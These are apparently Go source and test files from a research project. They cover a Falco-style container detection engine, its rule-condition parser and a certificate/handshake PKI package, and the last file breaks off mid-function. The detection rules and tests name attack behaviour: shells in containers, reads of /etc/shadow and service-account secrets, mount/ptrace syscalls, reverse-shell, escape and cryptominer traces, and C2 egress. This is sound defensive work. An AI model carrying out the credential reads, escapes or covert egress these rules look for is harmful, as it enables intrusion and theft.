// FuzzParseCondition fuzzes the rule condition language: hostile rule
// files must never panic the parser, and any condition it accepts must
// evaluate safely over arbitrary events (rules are operator-supplied
// text; a crash here would take down detection).
func FuzzParseCondition(f *testing.F) {
	seeds := []string{
		`evt.type = exec and proc.name != runc and evt.target startswith /bin/`,
		`evt.type = connect and not evt.target endswith .internal:5432`,
		`evt.type in (file-open, file-write) and evt.target contains /secrets/`,
		`evt.type = exec and not evt.first_exec and (evt.target endswith /bash or evt.target endswith /sh)`,
		`not not (workload = "w" or tenant = "t")`,
		`evt.seq = 3`,
		`evt.type in (exec)`,
		`evt.target = "unterminated`,
		`(((evt.type = exec)))`,
		`evt.type in (a, b, c,`,
		`and and and`,
		`evt.type =`,
		`"`,
		``,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	samples := []trace.Event{
		{},
		{Seq: 1, Workload: "w", Tenant: "t", Type: trace.EventExec, Process: "runc", Target: "/bin/bash"},
		{Seq: 2, Workload: "w", Tenant: "t", Type: trace.EventConnect, Target: "db.internal:5432"},
	}
	f.Fuzz(func(t *testing.T, src string) {
		cond, err := ParseCondition(src)
		if err != nil {
			return
		}
		// Accepted conditions must be total: no panics on any event, with
		// or without history.
		for _, e := range samples {
			cond(e, nil)
			cond(e, samples)
		}
	})
}

// FuzzParseRule extends the fuzz surface to full rule construction.
func FuzzParseRule(f *testing.F) {
	f.Add("shell", `evt.type = exec`, "/app/")
	f.Add("x", `evt.first_exec`, "")
	f.Fuzz(func(t *testing.T, name, cond, exception string) {
		r, err := ParseRule(name, PriorityWarning, cond, exception)
		if err != nil {
			return
		}
		e := NewEngine([]Rule{r})
		e.ConsumeAll(trace.ReverseShellTrace("w", "t"))
	})
}
