package falco

import (
	"testing"

	"genio/internal/trace"
)

func TestReverseShellDetected(t *testing.T) {
	e := NewEngine(DefaultRules())
	alerts := e.ConsumeAll(trace.ReverseShellTrace("web", "acme"))
	rules := map[string]bool{}
	for _, a := range alerts {
		rules[a.Rule] = true
	}
	if !rules["shell-in-container"] {
		t.Errorf("shell exec not detected; alerts = %+v", alerts)
	}
	if !rules["sensitive-file-read"] {
		t.Errorf("/etc/shadow read not detected")
	}
	if !rules["unexpected-egress"] {
		t.Errorf("C2 egress not detected")
	}
}

func TestContainerEscapeDetected(t *testing.T) {
	e := NewEngine(DefaultRules())
	alerts := e.ConsumeAll(trace.ContainerEscapeTrace("miner", "shady"))
	rules := map[string]bool{}
	for _, a := range alerts {
		rules[a.Rule] = true
	}
	if !rules["privileged-syscall"] {
		t.Errorf("mount syscall not detected")
	}
	if !rules["sensitive-file-read"] {
		t.Errorf("/host access not detected")
	}
}

func TestDetectionDoesNotBlock(t *testing.T) {
	// Falco observes; the full malicious trace is consumed to the end.
	e := NewEngine(DefaultRules())
	events := trace.ContainerEscapeTrace("miner", "shady")
	var consumed int
	for _, ev := range events {
		e.Consume(ev)
		consumed++
	}
	if consumed != len(events) {
		t.Fatal("detection interfered with execution")
	}
}

func TestEntrypointExecNotFlagged(t *testing.T) {
	e := NewEngine(DefaultRules())
	// First exec in a workload is the entrypoint, even if it is a shell.
	alerts := e.ConsumeAll(trace.NewBuilder("sh-app", "t").
		Add(trace.EventExec, "runc", "/bin/sh").
		Events())
	for _, a := range alerts {
		if a.Rule == "shell-in-container" {
			t.Fatalf("entrypoint shell flagged: %+v", a)
		}
	}
}

func TestUntunedFalsePositivesOnBenignTraffic(t *testing.T) {
	// Lesson 8: out of the box, benign DB egress trips unexpected-egress
	// until the destination uses internal naming... our benign web trace
	// talks to db.internal, so craft one talking to an external SaaS.
	e := NewEngine(DefaultRules())
	benign := trace.NewBuilder("web", "acme").
		Add(trace.EventExec, "runc", "/app/server").
		Add(trace.EventConnect, "server", "api.stripe.example:443"). // legitimate SaaS
		Add(trace.EventFileWrite, "server", "/var/log/app/access.log").
		Events()
	alerts := e.ConsumeAll(benign)
	var egressFP, writeFP bool
	for _, a := range alerts {
		switch a.Rule {
		case "unexpected-egress":
			egressFP = true
		case "write-outside-app":
			writeFP = true
		}
	}
	if !egressFP || !writeFP {
		t.Fatalf("expected untuned FPs, alerts = %+v", alerts)
	}
}

func TestTuningSuppressesFalsePositivesKeepsTruePositives(t *testing.T) {
	e := NewEngine(DefaultRules())
	if err := e.SetExceptions("unexpected-egress", []string{"api.stripe.example"}); err != nil {
		t.Fatal(err)
	}
	if err := e.SetExceptions("write-outside-app", []string{"/var/log/"}); err != nil {
		t.Fatal(err)
	}
	benign := trace.NewBuilder("web", "acme").
		Add(trace.EventExec, "runc", "/app/server").
		Add(trace.EventConnect, "server", "api.stripe.example:443").
		Add(trace.EventFileWrite, "server", "/var/log/app/access.log").
		Events()
	if alerts := e.ConsumeAll(benign); len(alerts) != 0 {
		t.Fatalf("tuned engine still alerts on benign traffic: %+v", alerts)
	}
	// The true positive (C2 egress) still fires.
	alerts := e.ConsumeAll(trace.ReverseShellTrace("web2", "acme"))
	var c2 bool
	for _, a := range alerts {
		if a.Rule == "unexpected-egress" {
			c2 = true
		}
	}
	if !c2 {
		t.Fatal("tuning suppressed the true positive")
	}
}

func TestSetExceptionsUnknownRule(t *testing.T) {
	e := NewEngine(DefaultRules())
	if err := e.SetExceptions("ghost-rule", nil); err == nil {
		t.Fatal("SetExceptions on unknown rule succeeded")
	}
}

func TestAlertsSortedByPriority(t *testing.T) {
	e := NewEngine(DefaultRules())
	e.ConsumeAll(trace.ReverseShellTrace("web", "acme"))
	alerts := e.Alerts()
	for i := 1; i < len(alerts); i++ {
		if alerts[i].Priority > alerts[i-1].Priority {
			t.Fatal("alerts not sorted by priority")
		}
	}
}

func TestReset(t *testing.T) {
	e := NewEngine(DefaultRules())
	e.ConsumeAll(trace.ReverseShellTrace("web", "acme"))
	if len(e.Alerts()) == 0 {
		t.Fatal("setup: no alerts")
	}
	e.Reset()
	if len(e.Alerts()) != 0 {
		t.Fatal("alerts survived Reset")
	}
	// History also cleared: entrypoint shell after reset is not flagged.
	alerts := e.ConsumeAll(trace.NewBuilder("web", "acme").
		Add(trace.EventExec, "runc", "/bin/sh").Events())
	for _, a := range alerts {
		if a.Rule == "shell-in-container" {
			t.Fatal("history survived Reset")
		}
	}
}

func TestHistoryBounded(t *testing.T) {
	e := NewEngine(DefaultRules())
	b := trace.NewBuilder("w", "t")
	for i := 0; i < 1000; i++ {
		b.Add(trace.EventFileWrite, "app", "/app/data")
	}
	e.ConsumeAll(b.Events())
	e.mu.Lock()
	n := len(e.history["w"])
	e.mu.Unlock()
	if n > 256 {
		t.Fatalf("history grew to %d", n)
	}
}

func TestCryptominerEgressDetected(t *testing.T) {
	e := NewEngine(DefaultRules())
	alerts := e.ConsumeAll(trace.CryptominerTrace("miner", "shady"))
	count := 0
	for _, a := range alerts {
		if a.Rule == "unexpected-egress" {
			count++
		}
	}
	if count != 5 {
		t.Fatalf("pool connections flagged %d times, want 5", count)
	}
}

func TestPriorityString(t *testing.T) {
	if PriorityCritical.String() != "critical" || Priority(9).String() != "priority(9)" {
		t.Fatal("Priority.String mismatch")
	}
}
