package falco

// This file implements the rule condition language, mirroring the subset
// of Falco's filter syntax the paper's deployment uses. Conditions are
// boolean expressions over event fields:
//
//	evt.type = exec and proc.name != runc and evt.target startswith /bin/
//	evt.type = connect and not evt.target endswith .internal:5432
//	evt.type in (file-open, file-write) and evt.target contains /secrets/
//
// Grammar:
//
//	expr   := or
//	or     := and { "or" and }
//	and    := unary { "and" unary }
//	unary  := "not" unary | "(" expr ")" | cmp
//	cmp    := field op value | field "in" "(" value {"," value} ")"
//	field  := evt.type | evt.target | proc.name | workload | tenant | evt.seq
//	op     := "=" | "!=" | "contains" | "startswith" | "endswith"
//
// Values are barewords or double-quoted strings. ParseCondition compiles
// the text into a Condition usable in a Rule.

import (
	"fmt"
	"strconv"
	"strings"
	"unicode"

	"genio/internal/trace"
)

// ParseCondition compiles a Falco-style condition expression.
func ParseCondition(src string) (Condition, error) {
	p := &condParser{tokens: lexCondition(src)}
	expr, err := p.parseOr()
	if err != nil {
		return nil, fmt.Errorf("falco: parse %q: %w", src, err)
	}
	if !p.eof() {
		return nil, fmt.Errorf("falco: parse %q: trailing input at %q", src, p.peek())
	}
	return func(e trace.Event, hist []trace.Event) bool {
		return expr.eval(e, hist)
	}, nil
}

// MustParseCondition is ParseCondition for statically known rules.
func MustParseCondition(src string) Condition {
	c, err := ParseCondition(src)
	if err != nil {
		panic(err)
	}
	return c
}

// ParseRule builds a complete Rule from textual fields.
func ParseRule(name string, priority Priority, condition string, exceptions ...string) (Rule, error) {
	cond, err := ParseCondition(condition)
	if err != nil {
		return Rule{}, err
	}
	return Rule{Name: name, Priority: priority, Cond: cond, Exceptions: exceptions}, nil
}

// --- expression tree ---------------------------------------------------------

type condExpr interface {
	eval(e trace.Event, hist []trace.Event) bool
}

type orExpr struct{ l, r condExpr }

func (x orExpr) eval(e trace.Event, h []trace.Event) bool { return x.l.eval(e, h) || x.r.eval(e, h) }

type andExpr struct{ l, r condExpr }

func (x andExpr) eval(e trace.Event, h []trace.Event) bool { return x.l.eval(e, h) && x.r.eval(e, h) }

type notExpr struct{ inner condExpr }

func (x notExpr) eval(e trace.Event, h []trace.Event) bool { return !x.inner.eval(e, h) }

type cmpExpr struct {
	field string
	op    string
	vals  []string // 1 value, or several for "in"
}

func fieldValue(field string, e trace.Event) (string, error) {
	switch field {
	case "evt.type":
		return e.Type.String(), nil
	case "evt.target":
		return e.Target, nil
	case "evt.seq":
		return strconv.Itoa(e.Seq), nil
	case "proc.name":
		return e.Process, nil
	case "workload":
		return e.Workload, nil
	case "tenant":
		return e.Tenant, nil
	default:
		return "", fmt.Errorf("unknown field %q", field)
	}
}

func (x cmpExpr) eval(e trace.Event, _ []trace.Event) bool {
	got, err := fieldValue(x.field, e)
	if err != nil {
		return false
	}
	switch x.op {
	case "=":
		return got == x.vals[0]
	case "!=":
		return got != x.vals[0]
	case "contains":
		return strings.Contains(got, x.vals[0])
	case "startswith":
		return strings.HasPrefix(got, x.vals[0])
	case "endswith":
		return strings.HasSuffix(got, x.vals[0])
	case "in":
		for _, v := range x.vals {
			if got == v {
				return true
			}
		}
		return false
	default:
		return false
	}
}

// firstExec is the special predicate "evt.first_exec": true when this is
// the workload's first exec event (the container entrypoint).
type firstExecExpr struct{}

func (firstExecExpr) eval(e trace.Event, hist []trace.Event) bool {
	if e.Type != trace.EventExec {
		return false
	}
	for _, h := range hist {
		if h.Type == trace.EventExec {
			return false
		}
	}
	return true
}

// --- lexer --------------------------------------------------------------------

func lexCondition(src string) []string {
	var tokens []string
	i := 0
	for i < len(src) {
		c := rune(src[i])
		switch {
		case unicode.IsSpace(c):
			i++
		case c == '(' || c == ')' || c == ',':
			tokens = append(tokens, string(c))
			i++
		case c == '=':
			tokens = append(tokens, "=")
			i++
		case c == '!' && i+1 < len(src) && src[i+1] == '=':
			tokens = append(tokens, "!=")
			i += 2
		case c == '"':
			j := i + 1
			for j < len(src) && src[j] != '"' {
				j++
			}
			tokens = append(tokens, `"`+src[i+1:min(j, len(src))])
			if j < len(src) {
				j++
			}
			i = j
		default:
			j := i
			for j < len(src) && !strings.ContainsRune(" \t()=,", rune(src[j])) &&
				!(src[j] == '!' && j+1 < len(src) && src[j+1] == '=') {
				j++
			}
			tokens = append(tokens, src[i:j])
			i = j
		}
	}
	return tokens
}

// --- parser -------------------------------------------------------------------

type condParser struct {
	tokens []string
	pos    int
}

func (p *condParser) eof() bool { return p.pos >= len(p.tokens) }

func (p *condParser) peek() string {
	if p.eof() {
		return ""
	}
	return p.tokens[p.pos]
}

func (p *condParser) next() string {
	t := p.peek()
	p.pos++
	return t
}

func (p *condParser) expect(tok string) error {
	if got := p.next(); got != tok {
		return fmt.Errorf("expected %q, got %q", tok, got)
	}
	return nil
}

func (p *condParser) parseOr() (condExpr, error) {
	left, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.peek() == "or" {
		p.next()
		right, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		left = orExpr{l: left, r: right}
	}
	return left, nil
}

func (p *condParser) parseAnd() (condExpr, error) {
	left, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for p.peek() == "and" {
		p.next()
		right, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		left = andExpr{l: left, r: right}
	}
	return left, nil
}

func (p *condParser) parseUnary() (condExpr, error) {
	switch p.peek() {
	case "not":
		p.next()
		inner, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return notExpr{inner: inner}, nil
	case "(":
		p.next()
		inner, err := p.parseOr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		return inner, nil
	case "":
		return nil, fmt.Errorf("unexpected end of condition")
	default:
		return p.parseCmp()
	}
}

var condFields = map[string]bool{
	"evt.type": true, "evt.target": true, "evt.seq": true,
	"proc.name": true, "workload": true, "tenant": true,
}

func (p *condParser) parseCmp() (condExpr, error) {
	field := p.next()
	if field == "evt.first_exec" {
		return firstExecExpr{}, nil
	}
	if !condFields[field] {
		return nil, fmt.Errorf("unknown field %q", field)
	}
	op := p.next()
	switch op {
	case "=", "!=", "contains", "startswith", "endswith":
		val, err := p.parseValue()
		if err != nil {
			return nil, err
		}
		return cmpExpr{field: field, op: op, vals: []string{val}}, nil
	case "in":
		if err := p.expect("("); err != nil {
			return nil, err
		}
		var vals []string
		for {
			v, err := p.parseValue()
			if err != nil {
				return nil, err
			}
			vals = append(vals, v)
			if p.peek() == "," {
				p.next()
				continue
			}
			break
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		return cmpExpr{field: field, op: "in", vals: vals}, nil
	default:
		return nil, fmt.Errorf("unknown operator %q", op)
	}
}

func (p *condParser) parseValue() (string, error) {
	tok := p.next()
	if tok == "" {
		return "", fmt.Errorf("expected value")
	}
	if strings.HasPrefix(tok, `"`) {
		return tok[1:], nil
	}
	switch tok {
	case "(", ")", ",", "and", "or", "not", "=", "!=":
		return "", fmt.Errorf("expected value, got %q", tok)
	}
	return tok, nil
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// TextRules returns the stock detection set expressed in the condition
// language — semantically equivalent to DefaultRules, demonstrating that
// deployed rule files can be loaded as text (the Falco operational model).
func TextRules() ([]Rule, error) {
	specs := []struct {
		name     string
		priority Priority
		cond     string
	}{
		{"shell-in-container", PriorityCritical,
			`evt.type = exec and not evt.first_exec and (evt.target endswith /bash or evt.target endswith /sh or evt.target endswith /zsh)`},
		{"sensitive-file-read", PriorityCritical,
			`evt.type = file-open and (evt.target startswith /etc/shadow or evt.target startswith /var/run/secrets/ or evt.target startswith /host/)`},
		{"unexpected-egress", PriorityWarning,
			`evt.type = connect and not evt.target contains .internal`},
		{"privileged-syscall", PriorityCritical,
			`evt.type = syscall and evt.target in (mount, ptrace, init_module)`},
		{"write-outside-app", PriorityNotice,
			`evt.type = file-write and not (evt.target startswith /app/ or evt.target startswith /out/ or evt.target startswith /tmp/)`},
	}
	rules := make([]Rule, 0, len(specs))
	for _, s := range specs {
		r, err := ParseRule(s.name, s.priority, s.cond)
		if err != nil {
			return nil, err
		}
		rules = append(rules, r)
	}
	return rules, nil
}
