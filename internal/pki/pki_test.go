package pki

import (
	"crypto/rand"
	"errors"
	"testing"
	"time"
)

func testCA(t *testing.T, opts ...CAOption) *CA {
	t.Helper()
	ca, err := NewCA("genio-root", opts...)
	if err != nil {
		t.Fatalf("NewCA: %v", err)
	}
	return ca
}

func TestIssueAndVerify(t *testing.T) {
	ca := testCA(t)
	id, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatalf("Issue: %v", err)
	}
	if err := ca.Verify(id.Certificate, RoleONU); err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if ca.Issued() != 1 {
		t.Fatalf("Issued = %d, want 1", ca.Issued())
	}
}

func TestVerifyRejectsWrongRole(t *testing.T) {
	ca := testCA(t)
	id, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	if err := ca.Verify(id.Certificate, RoleOLT); !errors.Is(err, ErrBadRole) {
		t.Fatalf("err = %v, want ErrBadRole", err)
	}
	// Role 0 means "any role".
	if err := ca.Verify(id.Certificate, 0); err != nil {
		t.Fatalf("Verify any-role: %v", err)
	}
}

func TestVerifyRejectsForeignCA(t *testing.T) {
	ca := testCA(t)
	rogue := testCA(t)
	id, err := rogue.Issue("fake-onu", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	err = ca.Verify(id.Certificate, RoleONU)
	if err == nil {
		t.Fatal("certificate from a foreign CA verified")
	}
	// Both CAs are named genio-root? No: each NewCA gets the same name here,
	// so the failure manifests as a bad signature rather than unknown issuer.
	if !errors.Is(err, ErrBadSignature) && !errors.Is(err, ErrUnknownCA) {
		t.Fatalf("err = %v, want ErrBadSignature or ErrUnknownCA", err)
	}
}

func TestVerifyRejectsTamperedCert(t *testing.T) {
	ca := testCA(t)
	id, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	tampered := *id.Certificate
	tampered.Subject = "onu-evil"
	if err := ca.Verify(&tampered, RoleONU); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestVerifyRejectsExpired(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	clock := func() time.Time { return now }
	ca := testCA(t, WithClock(clock), WithValidity(time.Hour))
	id, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	if err := ca.Verify(id.Certificate, RoleONU); err != nil {
		t.Fatalf("Verify before expiry: %v", err)
	}
	now = now.Add(2 * time.Hour)
	if err := ca.Verify(id.Certificate, RoleONU); !errors.Is(err, ErrExpired) {
		t.Fatalf("err = %v, want ErrExpired", err)
	}
}

func TestRevocation(t *testing.T) {
	ca := testCA(t)
	id, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	ca.Revoke(id.Certificate.SerialNumber)
	if !ca.IsRevoked(id.Certificate.SerialNumber) {
		t.Fatal("IsRevoked = false after Revoke")
	}
	if err := ca.Verify(id.Certificate, RoleONU); !errors.Is(err, ErrRevoked) {
		t.Fatalf("err = %v, want ErrRevoked", err)
	}
}

func TestVerifyNil(t *testing.T) {
	ca := testCA(t)
	if err := ca.Verify(nil, RoleONU); err == nil {
		t.Fatal("Verify(nil) succeeded")
	}
}

func TestIssueCARoleRejected(t *testing.T) {
	ca := testCA(t)
	if _, err := ca.IssueForKey("sub-ca", RoleCA, ca.Certificate().PublicKey); !errors.Is(err, ErrBadRole) {
		t.Fatalf("err = %v, want ErrBadRole", err)
	}
}

func TestFingerprintStable(t *testing.T) {
	ca := testCA(t)
	id, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	if id.Certificate.Fingerprint() != id.Certificate.Fingerprint() {
		t.Fatal("fingerprint not stable")
	}
	if len(id.Certificate.Fingerprint()) != 16 {
		t.Fatalf("fingerprint length = %d, want 16", len(id.Certificate.Fingerprint()))
	}
}

func TestRoleString(t *testing.T) {
	cases := map[Role]string{
		RoleCA:      "ca",
		RoleOLT:     "olt",
		RoleONU:     "onu",
		RoleCloud:   "cloud",
		RoleService: "service",
		Role(99):    "role(99)",
	}
	for role, want := range cases {
		if got := role.String(); got != want {
			t.Errorf("Role(%d).String() = %q, want %q", int(role), got, want)
		}
	}
}

func runHandshake(t *testing.T, ca *CA, client, server *Identity) (ck, sk SessionKeys, err error) {
	t.Helper()
	hc, err := NewHandshaker(client, ca, RoleOLT, true, rand.Reader)
	if err != nil {
		t.Fatalf("NewHandshaker client: %v", err)
	}
	hs, err := NewHandshaker(server, ca, RoleONU, false, rand.Reader)
	if err != nil {
		t.Fatalf("NewHandshaker server: %v", err)
	}
	offer, err := hc.Offer()
	if err != nil {
		return ck, sk, err
	}
	reply, err := hs.Accept(offer)
	if err != nil {
		return ck, sk, err
	}
	if err := hc.Finish(reply); err != nil {
		return ck, sk, err
	}
	ck, err = hc.SessionKeys()
	if err != nil {
		return ck, sk, err
	}
	sk, err = hs.SessionKeys()
	return ck, sk, err
}

func TestHandshakeMutualAuth(t *testing.T) {
	ca := testCA(t)
	onu, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	olt, err := ca.Issue("olt-01", RoleOLT)
	if err != nil {
		t.Fatal(err)
	}
	ck, sk, err := runHandshake(t, ca, onu, olt)
	if err != nil {
		t.Fatalf("handshake: %v", err)
	}
	if !KeysMatch(ck, sk) {
		t.Fatal("client and server derived different session keys")
	}
	if ck.ClientToServer == ck.ServerToClient {
		t.Fatal("directional keys must differ")
	}
}

func TestHandshakeRejectsRogueONU(t *testing.T) {
	ca := testCA(t)
	rogueCA := testCA(t)
	rogueONU, err := rogueCA.Issue("onu-rogue", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	olt, err := ca.Issue("olt-01", RoleOLT)
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = runHandshake(t, ca, rogueONU, olt)
	if err == nil {
		t.Fatal("handshake with rogue ONU succeeded")
	}
}

func TestHandshakeRejectsRevokedPeer(t *testing.T) {
	ca := testCA(t)
	onu, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	olt, err := ca.Issue("olt-01", RoleOLT)
	if err != nil {
		t.Fatal(err)
	}
	ca.Revoke(onu.Certificate.SerialNumber)
	if _, _, err := runHandshake(t, ca, onu, olt); !errors.Is(err, ErrRevoked) {
		t.Fatalf("err = %v, want ErrRevoked", err)
	}
}

func TestHandshakeRejectsWrongRolePeer(t *testing.T) {
	ca := testCA(t)
	// A service certificate must not pass where an OLT is expected.
	svc, err := ca.Issue("svc-1", RoleService)
	if err != nil {
		t.Fatal(err)
	}
	onu, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := runHandshake(t, ca, onu, svc); !errors.Is(err, ErrBadRole) {
		t.Fatalf("err = %v, want ErrBadRole", err)
	}
}

func TestHandshakeRejectsTamperedTranscript(t *testing.T) {
	ca := testCA(t)
	onu, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	olt, err := ca.Issue("olt-01", RoleOLT)
	if err != nil {
		t.Fatal(err)
	}
	hc, err := NewHandshaker(onu, ca, RoleOLT, true, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	hs, err := NewHandshaker(olt, ca, RoleONU, false, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	offer, err := hc.Offer()
	if err != nil {
		t.Fatal(err)
	}
	// Man-in-the-middle swaps the ephemeral share.
	mitm, err := NewHandshaker(olt, ca, RoleONU, false, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	offer.EphemeralPub = mitm.ephPriv.PublicKey().Bytes()
	if _, err := hs.Accept(offer); !errors.Is(err, ErrBadSignature) {
		t.Fatalf("err = %v, want ErrBadSignature", err)
	}
}

func TestSessionKeysBeforeCompletion(t *testing.T) {
	ca := testCA(t)
	onu, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	h, err := NewHandshaker(onu, ca, RoleOLT, true, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.SessionKeys(); !errors.Is(err, ErrHandshakeIncomplete) {
		t.Fatalf("err = %v, want ErrHandshakeIncomplete", err)
	}
	if _, err := h.PeerCertificate(); !errors.Is(err, ErrHandshakeIncomplete) {
		t.Fatalf("err = %v, want ErrHandshakeIncomplete", err)
	}
}

func TestHandshakePeerCertificateExposed(t *testing.T) {
	ca := testCA(t)
	onu, err := ca.Issue("onu-001", RoleONU)
	if err != nil {
		t.Fatal(err)
	}
	olt, err := ca.Issue("olt-01", RoleOLT)
	if err != nil {
		t.Fatal(err)
	}
	hc, err := NewHandshaker(onu, ca, RoleOLT, true, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	hs, err := NewHandshaker(olt, ca, RoleONU, false, rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	offer, _ := hc.Offer()
	reply, err := hs.Accept(offer)
	if err != nil {
		t.Fatal(err)
	}
	if err := hc.Finish(reply); err != nil {
		t.Fatal(err)
	}
	peer, err := hs.PeerCertificate()
	if err != nil {
		t.Fatal(err)
	}
	if peer.Subject != "onu-001" {
		t.Fatalf("server saw peer %q, want onu-001", peer.Subject)
	}
	peer, err = hc.PeerCertificate()
	if err != nil {
		t.Fatal(err)
	}
	if peer.Subject != "olt-01" {
		t.Fatalf("client saw peer %q, want olt-01", peer.Subject)
	}
}
