// Package pki implements the certificate infrastructure GENIO uses to
// authenticate nodes (M4): a CA hierarchy issuing device certificates,
// chain verification with expiry and revocation, and a TLS-1.3-style
// mutual-authentication handshake used when ONUs onboard against OLTs.
//
// The paper relies on standard X.509/TLS 1.3 deployments; we implement the
// same trust semantics over compact Ed25519 certificates so the whole flow
// is self-contained and deterministic for experiments. Signatures, key
// agreement (X25519 ECDHE), and session-key derivation (HKDF-SHA256) are
// real stdlib cryptography.
package pki

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"sync"
	"time"
)

// Role identifies what kind of entity a certificate is issued to.
type Role int

// Certificate roles in the GENIO deployment.
const (
	RoleCA Role = iota + 1
	RoleOLT
	RoleONU
	RoleCloud
	RoleService
)

var roleNames = map[Role]string{
	RoleCA:      "ca",
	RoleOLT:     "olt",
	RoleONU:     "onu",
	RoleCloud:   "cloud",
	RoleService: "service",
}

// String returns the lowercase role name.
func (r Role) String() string {
	if n, ok := roleNames[r]; ok {
		return n
	}
	return fmt.Sprintf("role(%d)", int(r))
}

// Certificate binds a subject identity and role to an Ed25519 public key,
// signed by an issuer. It plays the part of an X.509 device certificate.
type Certificate struct {
	SerialNumber string            `json:"serialNumber"`
	Subject      string            `json:"subject"`
	Role         Role              `json:"role"`
	PublicKey    ed25519.PublicKey `json:"publicKey"`
	Issuer       string            `json:"issuer"`
	NotBefore    time.Time         `json:"notBefore"`
	NotAfter     time.Time         `json:"notAfter"`
	Signature    []byte            `json:"signature"`
}

// tbs returns the to-be-signed encoding of the certificate.
func (c *Certificate) tbs() []byte {
	cp := *c
	cp.Signature = nil
	b, err := json.Marshal(&cp)
	if err != nil {
		// Marshaling a plain struct of encodable fields cannot fail.
		panic(fmt.Sprintf("pki: marshal tbs: %v", err))
	}
	return b
}

// Fingerprint returns the SHA-256 fingerprint of the certificate public key.
func (c *Certificate) Fingerprint() string {
	sum := sha256.Sum256(c.PublicKey)
	return hex.EncodeToString(sum[:8])
}

// Identity is a private key together with its certificate.
type Identity struct {
	Certificate *Certificate
	PrivateKey  ed25519.PrivateKey
}

// Errors returned by verification.
var (
	ErrExpired      = errors.New("pki: certificate expired or not yet valid")
	ErrRevoked      = errors.New("pki: certificate revoked")
	ErrBadSignature = errors.New("pki: bad certificate signature")
	ErrUnknownCA    = errors.New("pki: unknown issuer")
	ErrBadRole      = errors.New("pki: unexpected certificate role")
)

// CA is a certificate authority. It issues certificates, maintains a
// revocation list, and verifies presented chains. Safe for concurrent use.
type CA struct {
	mu       sync.Mutex
	identity Identity
	revoked  map[string]time.Time // serial -> revocation time
	issued   int
	now      func() time.Time
	rand     io.Reader
	validity time.Duration
}

// CAOption customizes CA construction.
type CAOption func(*CA)

// WithClock overrides the CA time source (for tests and simulations).
func WithClock(now func() time.Time) CAOption {
	return func(c *CA) { c.now = now }
}

// WithValidity sets the lifetime of issued certificates.
func WithValidity(d time.Duration) CAOption {
	return func(c *CA) { c.validity = d }
}

// WithRand overrides the randomness source.
func WithRand(r io.Reader) CAOption {
	return func(c *CA) { c.rand = r }
}

// NewCA creates a self-signed certificate authority.
func NewCA(name string, opts ...CAOption) (*CA, error) {
	ca := &CA{
		revoked:  make(map[string]time.Time),
		now:      time.Now,
		rand:     rand.Reader,
		validity: 365 * 24 * time.Hour,
	}
	for _, o := range opts {
		o(ca)
	}
	pub, priv, err := ed25519.GenerateKey(ca.rand)
	if err != nil {
		return nil, fmt.Errorf("generate ca key: %w", err)
	}
	cert := &Certificate{
		SerialNumber: newSerial(ca.rand),
		Subject:      name,
		Role:         RoleCA,
		PublicKey:    pub,
		Issuer:       name,
		NotBefore:    ca.now().Add(-time.Minute),
		NotAfter:     ca.now().Add(10 * ca.validity),
	}
	cert.Signature = ed25519.Sign(priv, cert.tbs())
	ca.identity = Identity{Certificate: cert, PrivateKey: priv}
	return ca, nil
}

func newSerial(r io.Reader) string {
	var b [12]byte
	if _, err := io.ReadFull(r, b[:]); err != nil {
		// Exhausted randomness is unrecoverable at this layer.
		panic(fmt.Sprintf("pki: serial: %v", err))
	}
	return hex.EncodeToString(b[:])
}

// Certificate returns the CA's own certificate (the trust anchor).
func (ca *CA) Certificate() *Certificate { return ca.identity.Certificate }

// Issue creates a new identity for subject with the given role.
func (ca *CA) Issue(subject string, role Role) (*Identity, error) {
	pub, priv, err := ed25519.GenerateKey(ca.rand)
	if err != nil {
		return nil, fmt.Errorf("generate key for %s: %w", subject, err)
	}
	cert, err := ca.IssueForKey(subject, role, pub)
	if err != nil {
		return nil, err
	}
	return &Identity{Certificate: cert, PrivateKey: priv}, nil
}

// IssueForKey certifies an externally held public key (e.g. a key that never
// leaves a device's secure element).
func (ca *CA) IssueForKey(subject string, role Role, pub ed25519.PublicKey) (*Certificate, error) {
	if role == RoleCA {
		return nil, fmt.Errorf("%w: intermediate CAs must use IssueCA", ErrBadRole)
	}
	ca.mu.Lock()
	defer ca.mu.Unlock()
	cert := &Certificate{
		SerialNumber: newSerial(ca.rand),
		Subject:      subject,
		Role:         role,
